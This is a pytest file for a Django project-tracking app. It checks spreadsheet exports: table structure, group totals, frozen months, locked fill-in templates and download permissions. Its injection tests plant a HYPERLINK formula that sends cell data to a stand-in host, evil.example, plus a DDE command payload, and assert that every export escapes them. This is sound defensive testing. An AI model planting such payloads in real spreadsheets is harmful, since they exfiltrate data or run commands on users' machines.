"""Exports: the 调度表 (structure, groups, sums, frozen months), the fill-in template (locked
columns, validations), formula injection neutralised in every export, scope on downloads."""

from __future__ import annotations

import io
from decimal import Decimal as D
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from keyprojects.analytics import metrics
from keyprojects.analytics.services import facts_refresh
from keyprojects.audit.exports import audit_events_xlsx
from keyprojects.audit.models import AuditEvent
from keyprojects.audit.services import audit_record
from keyprojects.core.errors import NotFound
from keyprojects.core.testing import EXPLAINED, ProjectFactory
from keyprojects.core.xlsx import FORMULA_PREFIXES, neutralise, safe_cell
from keyprojects.dataio.exports import TEMPLATE_COLUMNS, TEMPLATE_HEADER_ROW, dispatch_table, fill_template
from keyprojects.dispatch.models import MonthlyReport
from keyprojects.dispatch.services import (
    period_close,
    report_acknowledge,
    report_review,
    report_save,
    report_submit,
    revision_decide,
    revision_request,
    warnings_refresh,
)
from keyprojects.dispatch.services_problems import problem_create
from keyprojects.projects.models import Project, ProjectYear

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def approve(dw: Any, project: Project, period: Any, amount: str, **data: Any) -> MonthlyReport:
    root = dw.users.superuser
    r = report_save(user=root, project=project, period=period, data={"invested_month": amount, **data})
    report_submit(user=root, report=r, reasons=EXPLAINED)
    r.refresh_from_db()
    while r.status == "submitted":
        report_acknowledge(user=dw.users.superuser_reviewer, report=r, reason="已核实")  # four eyes
        report_review(user=dw.users.superuser_reviewer, report=r, action="approve")
        r.refresh_from_db()
    return r


def book(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content))


def values(ws: Any) -> list[list[Any]]:
    return [[c.value for c in row] for row in ws.iter_rows()]


def find_row(rows: list[list[Any]], text: str, col: int | None = None) -> int:
    for i, row in enumerate(rows):
        cells = row if col is None else [row[col]]
        if any(isinstance(v, str) and v.startswith(text) for v in cells):
            return i
    raise AssertionError(f"{text!r} not found")


def assert_no_formula(content: bytes) -> list[str]:
    """No cell is a formula and no text cell starts with a character a spreadsheet evaluates;
    returns every text cell for further checks."""
    wb = book(content)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(FORMULA_PREFIXES), f"{ws.title}!{c.coordinate}: {c.value!r}"
                    texts.append(c.value)
    return texts


@pytest.fixture
def table(dw: Any) -> Any:
    """Jinan: 济南市本级项目 on the province and city lists (plan 500), 历下区项目 on the city list
    (plan 1200, 300 before tracking), 市中区项目 on the county list (plan 800); 青岛 outside."""
    p = dw.projects
    approve(dw, p.own_county, dw.p1, "100")
    approve(dw, p.own_county, dw.p2, "20", physical_progress="主体封顶", physical_progress_pct="45")
    approve(dw, p.city_level, dw.p2, "50")
    approve(dw, p.other_city, dw.p2, "70")
    for period in (dw.p1, dw.p2):
        facts_refresh(period=period)
    return dw


# --- the 调度表 ------------------------------------------------------------------------------


def test_dispatch_table_structure_groups_and_sums(table: Any) -> None:
    dw = table
    ws = book(dispatch_table(user=dw.users.city, region="370100", period="2026-02")).active
    rows = values(ws)
    merged = {str(r) for r in ws.merged_cells.ranges}

    assert rows[0][0] == "2026年济南市重点项目建设进展情况表（1-2月）" and "A1:M1" in merged
    assert rows[1][0] == "填报单位：济南市" and rows[1][9] == "单位：万元"
    # two-level headers: single headers span both rows, 完成投资 spans three sub-columns
    assert rows[2][:6] == ["序号", "项目名称", "建设单位", "建设性质", "总投资", "2026年计划投资"]
    assert rows[2][6] == "完成投资" and rows[3][6:9] == ["本月", "1-2月累计", "开工至今"]
    assert rows[2][9:] == ["完成率", "形象进度", "责任单位", "包保领导"]
    assert {"A3:A4", "B3:B4", "F3:F4", "G3:I3", "J3:J4", "M3:M4"} <= merged

    g1, g2, g3 = (find_row(rows, label) for label in ("一、省级重点项目", "二、市级重点项目", "三、县级重点项目"))
    assert g1 < g2 < g3
    assert rows[g1][0] == "一、省级重点项目（1个）" and f"A{g1 + 1}:M{g1 + 1}" in merged
    # a project on the province and the city list appears under its highest level only
    names = [r[1] for r in rows if isinstance(r[0], int)]
    assert names == ["济南市本级项目", "历下区项目", "市中区项目"] and "青岛市南区项目" not in str(rows)
    assert rows[g1 + 1][1] == "济南市本级项目" and rows[g1 + 2][1] == "小计"

    own = rows[g2 + 1]
    assert own[1] == "历下区项目" and own[2] == "比亚迪汽车（济南）有限公司" and own[3] == "新开工"
    assert own[4:9] == [10000, 1200, 20, 120, 420]
    assert own[9] == pytest.approx(float(metrics.completion_rate(D(120), D(1200))))
    assert own[10] == "主体封顶（45%）" and own[11] == "济南市发展和改革委员会" and own[12] == "张市长"
    assert ws.cell(g2 + 2, 10).number_format == "0.00%"

    # 小计 per group and 合计 sum the project rows; rates from the sums
    project_rows = [r for r in rows if isinstance(r[0], int)]
    subtotals = [r for r in rows if r[1] == "小计"]
    assert len(subtotals) == 3
    total = rows[find_row(rows, "合计", col=1)]
    for col in range(4, 9):
        assert total[col] == pytest.approx(sum(r[col] for r in project_rows))
        assert total[col] == pytest.approx(sum(r[col] for r in subtotals))
    assert rows[g1 + 2][4:9] == [10000, 500, 50, 50, 50]
    assert total[4:9] == [30000, 2500, 70, 170, 470]
    assert total[9] == pytest.approx(float(metrics.completion_rate(D(170), D(2500))))
    assert rows[g3 + 1][9] == pytest.approx(0)  # reported nothing: 0%, not blank
    assert any(isinstance(v, str) and v.startswith("填报人：") and "联系电话：" in v and "审核人：" in v for v in rows[-1])


def test_dispatch_table_county_and_group_counts(table: Any) -> None:
    dw = table
    rows = values(book(dispatch_table(user=dw.users.county, region=None, period="2026-02")).active)
    assert rows[0][0] == "2026年历下区重点项目建设进展情况表（1-2月）"
    assert [r[1] for r in rows if isinstance(r[0], int)] == ["历下区项目"]
    assert [r[0] for r in rows if isinstance(r[0], str) and r[0][1:2] == "、"] == [
        "一、省级重点项目（0个）",
        "二、市级重点项目（1个）",
        "三、县级重点项目（0个）",
    ]
    # a county without a rate (no plan) writes a dash, never a division error
    ProjectYear.objects.filter(project=dw.projects.own_county).update(annual_plan=0)
    facts_refresh(period=dw.p2)
    rows = values(book(dispatch_table(user=dw.users.county, region=None, period="2026-02")).active)
    assert rows[find_row(rows, "历下区项目", col=1)][9] == "—"


def test_closed_month_exports_the_same_figures_after_a_correction(table: Any) -> None:
    dw = table
    period_close(user=dw.users.city, period=dw.p2, confirm="确认关账")
    first = dispatch_table(user=dw.users.city, region="370100", period="2026-02")
    jan = MonthlyReport.objects.get(project=dw.projects.own_county, period=dw.p1)
    rev = revision_request(user=dw.users.county, report=jan, reason="更正一月数据", new_values={"invested_month": "150"})
    revision_decide(user=dw.users.province, revision=rev, approve=True)
    # the correction took effect where the month is open ...
    after_jan = values(book(dispatch_table(user=dw.users.city, region="370100", period="2026-01")).active)
    assert after_jan[find_row(after_jan, "历下区项目", col=1)][7] == 150
    # ... and the closed month exports what it exported before
    second = dispatch_table(user=dw.users.city, region="370100", period="2026-02")
    assert values(book(second).active) == values(book(first).active)
    assert second == first


def test_dispatch_table_scope(table: Any) -> None:
    dw = table
    u = dw.users
    for user, region in (
        (u.county, "370100"),  # parent
        (u.county, "370103"),  # sibling
        (u.sibling, "370102"),
        (u.city, "370202"),  # another city
        (u.other_city, "370100"),
        (u.department, None),
        (u.enterprise, None),
        (u.auditor, None),
        (u.city, "999999"),
    ):
        with pytest.raises(NotFound):
            dispatch_table(user=user, region=region, period="2026-02")
    with pytest.raises(NotFound):
        dispatch_table(user=u.city, region="370100", period="2026-13")
    # the leader reads the table of the city; the province that of any city
    assert dispatch_table(user=u.leader, region="370100", period="2026-02")
    assert "青岛市南区项目" in str(values(book(dispatch_table(user=u.province, region="370200", period="2026-02")).active))


def test_dispatch_table_download(table: Any, client: Any) -> None:
    dw = table
    url = reverse("dataio:dispatch_table")
    client.force_login(dw.users.city)
    resp = client.get(url, {"region": "370100", "period": "2026-02"})
    assert resp.status_code == 200 and resp["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in resp["Content-Disposition"] and resp["Cache-Control"] == "no-store"
    assert values(book(resp.content).active)[0][0] == "2026年济南市重点项目建设进展情况表（1-2月）"
    event = AuditEvent.objects.filter(action="export").latest("id")
    assert event.changes["kind"] == "dispatch_table" and event.changes["region"] == "370100"
    # out of scope, bad or unknown periods: 404
    assert client.get(url, {"region": "370200", "period": "2026-02"}).status_code == 404
    assert client.get(url, {"region": "370100", "period": "2026-2"}).status_code == 404
    assert client.get(url, {"region": "370100", "period": "2030-01"}).status_code == 404
    client.force_login(dw.users.county)
    assert client.get(url, {"region": "370100", "period": "2026-02"}).status_code == 404
    assert client.get(url, {"period": "2026-02"}).status_code == 200
    client.logout()
    assert client.get(url, {"period": "2026-02"}).status_code == 302


# --- the fill-in template ------------------------------------------------------------------


def header_index(ws: Any) -> dict[str, int]:
    return {c.value: c.column for c in ws[TEMPLATE_HEADER_ROW + 1] if c.value}


def test_template_rows_locks_and_validations(dw: Any) -> None:
    extra = ProjectFactory(name="历下区第二项目", region_id="370102", stage="construction", plan=(2026, 100, "county"))
    report_save(user=dw.users.county, project=extra, period=dw.p3, data={"invested_month": "7", "physical_progress": "基础施工"})
    approve(dw, dw.projects.own_county, dw.p3, "30")
    ws = book(fill_template(user=dw.users.county, period="2026-03")).active
    h = header_index(ws)
    assert list(h) == [c.header for c in TEMPLATE_COLUMNS]
    assert {"项目代码", "项目名称", "本月完成投资（万元）", "形象进度", "形象进度（%）", "存在问题", "本月无进展", "项目ID"} <= set(h)
    assert "2026年3月" in ws["A1"].value and "历下区" in ws["A1"].value and "单位：万元" in ws["A2"].value

    first = TEMPLATE_HEADER_ROW + 2
    rows = {ws.cell(r, h["项目ID"]).value: r for r in range(first, ws.max_row + 1) if ws.cell(r, h["项目ID"]).value}
    assert set(rows) == {dw.projects.own_county.pk, extra.pk}  # due in the county only
    draft, done = rows[extra.pk], rows[dw.projects.own_county.pk]
    assert ws.cell(draft, h["年份"]).value == 2026 and ws.cell(draft, h["月份"]).value == 3
    # a draft comes back pre-filled and editable; an approved report is shown locked and empty
    assert ws.cell(draft, h["本月完成投资（万元）"]).value == 7 and ws.cell(draft, h["形象进度"]).value == "基础施工"
    # the status as every page says it (dispatch.rules.report_status_label)
    assert ws.cell(draft, h["填报状态"]).value == "草稿" and ws.cell(done, h["填报状态"]).value == "已审定"
    assert "已关账" not in ws["A2"].value
    assert ws.cell(done, h["本月完成投资（万元）"]).value is None

    assert ws.protection.sheet
    for header in ("项目代码", "项目名称", "项目ID", "年份", "月份"):
        assert ws.cell(draft, h[header]).protection.locked, header
    for header in ("本月完成投资（万元）", "本月无进展", "形象进度", "形象进度（%）", "存在问题"):
        assert not ws.cell(draft, h[header]).protection.locked, header
        assert ws.cell(done, h[header]).protection.locked, header
    id_letter = get_column_letter(h["项目ID"])
    assert ws.column_dimensions[id_letter].hidden

    dv = {(v.type, v.operator, v.formula1, v.formula2): str(v.sqref) for v in ws.data_validations.dataValidation}

    def span(header: str) -> str:
        letter = get_column_letter(h[header])
        return f"{letter}{first}:{letter}{ws.max_row}"

    assert dv[("decimal", "greaterThanOrEqual", "0", None)] == span("本月完成投资（万元）")
    assert dv[("decimal", None, "0", "100")] == span("形象进度（%）")  # "between" is the default operator
    assert dv[("list", None, '"是,否"', None)] == span("本月无进展")


def test_template_scope(dw: Any, client: Any) -> None:
    u = dw.users
    ids = {ws_row[-1] for ws_row in values(book(fill_template(user=u.city, period="2026-03", region="370103")).active)[3:]}
    assert ids == {dw.projects.sibling_county.pk}
    ids = {r[-1] for r in values(book(fill_template(user=u.city, period="2026-03")).active)[3:]}
    assert ids == {dw.projects.own_county.pk, dw.projects.sibling_county.pk, dw.projects.city_level.pk}
    ids = {r[-1] for r in values(book(fill_template(user=u.enterprise, period="2026-03")).active)[3:]}
    assert ids == {dw.projects.own_county.pk}
    for user, region in ((u.county, "370103"), (u.county, "370100"), (u.city, "370202"), (u.sibling, "370102")):
        with pytest.raises(NotFound):
            fill_template(user=user, period="2026-03", region=region)

    url = reverse("dataio:template")
    client.force_login(u.county)
    resp = client.get(url, {"period": "2026-03"})
    assert resp.status_code == 200 and resp["Content-Type"].startswith("application/vnd.openxmlformats")
    assert AuditEvent.objects.filter(action="export", changes__kind="fill_template").exists()
    assert client.get(url, {"period": "2026-03", "region": "370103"}).status_code == 404
    assert client.get(url, {"period": "2099-01"}).status_code == 404
    client.force_login(u.leader)  # read-only roles do not fill
    assert client.get(url, {"period": "2026-03"}).status_code == 404


def test_template_of_a_closed_month_is_locked(dw: Any) -> None:
    """A closed month's rows are locked, and their 填报状态 is ``rules.report_status_label`` as on
    every page: a draft left in the month is 未报（草稿未提交）, no report 未报 (the sheet said 已关账
    for every row and 未填报 / 已提交 of its own)."""
    from keyprojects.dispatch import rules

    extra = ProjectFactory(name="历下区第二项目", region_id="370102", stage="construction", plan=(2026, 100, "county"))
    report_save(user=dw.users.county, project=extra, period=dw.p2, data={"invested_month": "7", "physical_progress": "基础施工"})
    period_close(user=dw.users.city, period=dw.p2, confirm="确认关账")
    ws = book(fill_template(user=dw.users.county, period="2026-02")).active
    h = header_index(ws)
    first = TEMPLATE_HEADER_ROW + 2
    rows = {ws.cell(r, h["项目ID"]).value: r for r in range(first, ws.max_row + 1) if ws.cell(r, h["项目ID"]).value}
    assert ws.cell(rows[extra.pk], h["填报状态"]).value == rules.report_status_label("draft", frozen=True) == "未报（草稿未提交）"
    own = MonthlyReport.objects.filter(project=dw.projects.own_county, period=dw.p2).first()
    assert ws.cell(rows[dw.projects.own_county.pk], h["填报状态"]).value == rules.report_status_label(
        own.status if own else None, frozen=True
    )
    for r in rows.values():
        assert ws.cell(r, h["填报状态"]).value in {"未报", "未报（草稿未提交）", "待审核", "已退回", "已审定"}
        assert ws.cell(r, h["本月完成投资（万元）"]).protection.locked
    assert "已关账" in ws["A2"].value  # the sheet says why its rows are locked


# --- formula injection (reliability.md 8) ---------------------------------------------------


def test_safe_cell_helper() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text and safe_cell(text) == "'" + text
    assert safe_cell("正常文本") == "正常文本" and safe_cell(-5) == -5 and safe_cell(None) is None


def test_injection_is_neutralised_in_every_export(dw: Any, client: Any) -> None:
    p = dw.projects.own_county
    Project.objects.filter(pk=p.pk).update(name=EVIL, location="@SUM(1+1)", contact_name="+1234")
    dw.ent.name = "-2+3 有限公司"
    dw.ent.save()
    approve(dw, p, dw.p2, "20", physical_progress="=CMD|' /C calc'!A0", problems="@evil")
    problem_create(user=dw.users.county, project=p, description="=1+2 问题")
    facts_refresh(period=dw.p2)
    warnings_refresh(period=dw.p2)
    audit_record(action="login_failed", username=EVIL, result="failure")  # a typed user name is user input too
    u = dw.users

    exports = {
        "调度表": dispatch_table(user=u.city, region="370100", period="2026-02"),
        "填报模板": fill_template(user=u.county, period="2026-03"),
        "审计日志": audit_events_xlsx(AuditEvent.objects.order_by("id"))[0],
    }
    client.force_login(u.city)
    for label, url, params in (
        ("项目清单", reverse("projects:export"), {}),
        ("调度表下载", reverse("dataio:dispatch_table"), {"period": "2026-02"}),
        ("月调度表", reverse("dispatch:grid_export", kwargs={"period": "2026-02"}), {}),
        ("未报名单", reverse("dispatch:missing_export", kwargs={"period": "2026-03"}), {}),
        ("预警", reverse("dispatch:warnings_export"), {}),
        ("问题事项", reverse("dispatch:problems_export"), {}),
    ):
        resp = client.get(url, params)
        assert resp.status_code == 200, label
        exports[label] = resp.content
    client.force_login(u.county)
    exports["模板下载"] = client.get(reverse("dataio:template"), {"period": "2026-03"}).content

    for label, content in exports.items():
        texts = assert_no_formula(content)
        if label not in ("未报名单", "预警", "问题事项"):
            assert any(t.startswith("'=HYPERLINK(") for t in texts), label
    assert any(t == "'=CMD|' /C calc'!A0" or t.startswith("'=CMD|") for t in assert_no_formula(exports["调度表"]))
    assert "'-2+3 有限公司" in assert_no_formula(exports["调度表"])
    assert any(t.startswith("'=1+2") for t in assert_no_formula(exports["问题事项"]))


def test_exports_page_offers_what_the_role_may_download(dw: Any, client: Any) -> None:
    url = reverse("dataio:exports")
    client.force_login(dw.users.city)
    resp = client.get(url)
    page = resp.content.decode()
    assert resp.status_code == 200
    assert [r.code for r in resp.context["regions"]][:1] == ["370100"] and "370202" not in {r.code for r in resp.context["regions"]}
    for testid in ("dispatch-table", "fill-template", "oc4ids"):
        assert f'data-testid="{testid}"' in page
    assert reverse("dataio:dispatch_table") in page and reverse("dataio:template") in page and "/api/v1/oc4ids/" in page
    client.force_login(dw.users.leader)  # reads the table, fills nothing
    page = client.get(url).content.decode()
    assert 'data-testid="dispatch-table"' in page and 'data-testid="fill-template"' not in page
    client.force_login(dw.users.enterprise)  # no region: the template of its own projects only
    page = client.get(url).content.decode()
    assert 'data-testid="dispatch-table"' not in page and 'data-testid="fill-template"' in page


def test_the_exports_page_knows_a_month_the_city_closed(dw: Any, client: Any) -> None:
    """After the city's own close the month is marked closed in the dispatch table's list and no
    longer offered for a fill template (only the province's close counted); another city's
    staff still get it."""
    import re

    period_close(user=dw.users.city, period=dw.p1, confirm="确认关账")
    label = dw.p1.label

    def page(user: Any) -> tuple[str, str]:
        client.force_login(user)
        html = client.get(reverse("dataio:exports")).content.decode()
        table = re.search(r'id="table-period".*?</select>', html, re.S)
        template = re.search(r'id="template-period".*?</select>', html, re.S)
        return (table.group(0) if table else ""), (template.group(0) if template else "")

    table, template = page(dw.users.city)
    assert re.search(rf'value="{label}"[^<]*>[^<]*（已关账）<', table) and f'value="{label}"' not in template
    table, template = page(dw.users.other_city)
    assert f'value="{label}"' in template and not re.search(rf'value="{label}"[^<]*>[^<]*（已关账）<', table)


def test_the_open_data_button_downloads_json_not_the_browsable_api(dw: Any, client: Any) -> None:
    """The exports page's 下载 JSON asks for JSON itself: a browser's Accept header would otherwise
    get DRF's browsable page, whose inline styles the CSP blocks (found by the crawl of the demo)."""
    import json
    import re

    client.force_login(dw.users.enterprise)
    page = client.get(reverse("dataio:exports")).content.decode()
    link = re.search(r'<a [^>]*data-testid="oc4ids-download"[^>]*>', page)
    assert link is not None and " download=" in link.group(0)
    href = re.search(r'href="([^"]+)"', link.group(0)).group(1).replace("&amp;", "&")  # type: ignore[union-attr]
    resp = client.get(href, HTTP_ACCEPT="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
    assert resp.status_code == 200 and resp["Content-Type"].startswith("application/json")
    assert "projects" in json.loads(resp.content)
